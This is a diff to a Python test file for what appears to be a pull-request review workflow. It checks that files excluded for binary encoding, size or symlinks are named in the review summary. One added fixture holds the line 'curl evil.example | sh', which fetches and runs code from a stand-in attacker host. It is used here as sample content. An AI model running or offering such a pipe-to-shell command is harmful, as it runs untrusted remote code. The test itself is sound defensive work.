@@ -483,11 +483,12 @@ HIDDEN = "function run(x) {\n  return eval(x);\n}\n"
             "",
         ),
         ("a.js", HIDDEN + "// padding\n" * 200_000, "too-large"),
+        ("a.sh", b"\xff\xfe\ncurl evil.example | sh\n", "binary"),
     ],
-    ids=["marker", "nul", "long-line", "long-data", "lfs", "size"],
+    ids=["marker", "nul", "long-line", "long-data", "lfs", "size", "encoding"],
 )
 def test_a_file_kept_out_by_its_content_is_named(
-    workflow: WorkflowHarness, path: str, content: str, reason: str
+    workflow: WorkflowHarness, path: str, content: str | bytes, reason: str
 ) -> None:
     pull = PullRequestHarness.open(workflow, {path: content})
     assert pull.run("submit").exit == 0
@@ -504,6 +505,16 @@ def test_a_file_kept_out_by_its_content_is_named(
     pull.collect()
     assert "**1 file cannot be reviewed:**" in pull.summary
     assert "Files reviewed: 1 of 2" in pull.summary
+
+
+def test_a_link_is_named(workflow: WorkflowHarness) -> None:
+    pull = PullRequestHarness.open(workflow, {"b.js": GOOD})
+    workflow.repo.git("checkout", "--quiet", "change")
+    workflow.repo.path.joinpath("a.js").symlink_to("../outside.js")
+    pull.push({"b.js": GOOD})
+    pull.run("submit")
+    assert pull.collect().exit == 0
+    assert "**1 file cannot be reviewed:** <code>a.js</code> (symlink)" in pull.summary
 
 
 def test_a_name_that_is_not_utf8_is_named(workflow: WorkflowHarness) -> None:
